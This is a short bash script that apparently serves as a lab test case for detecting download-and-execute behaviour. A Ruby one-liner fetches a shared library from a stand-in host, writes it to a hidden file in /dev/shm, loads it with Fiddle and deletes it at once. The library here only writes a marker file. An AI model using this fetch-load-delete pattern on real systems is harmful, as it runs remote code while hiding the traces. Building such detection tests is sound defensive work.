#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
# corpus: expect=download-execute half=report tool=ruby far=out seconds=16 parts=dns,outside-web
# Ruby fetches a library, loads it into itself from a file in /dev/shm and takes the file away at once.
if [ "$1" = out ]; then
	mkdir -p "$LAB/outside/drop"; printf '%s\n' '#include <stdio.h>' '#include <stdlib.h>' 'static void __attribute__((constructor)) begin(void) { char n[200]; snprintf(n, 200, "%s/ran", getenv("LAB")); FILE *f = fopen(n, "w"); fputs("loaded", f); fclose(f); }' >"$LAB/lib.c"
	gcc -shared -fPIC -o "$LAB/outside/drop/lib.so" "$LAB/lib.c"; sleep 18; exit 0
fi
sleep 3; timeout 12 ruby -rfiddle -rnet/http -e 'name = "/dev/shm/.nwlab-#{$$}"; File.binwrite(name, Net::HTTP.get(URI("http://relay.example.net/drop/lib.so"))); Fiddle.dlopen(name); File.unlink(name); sleep 6'; grep -q loaded "$LAB/ran"
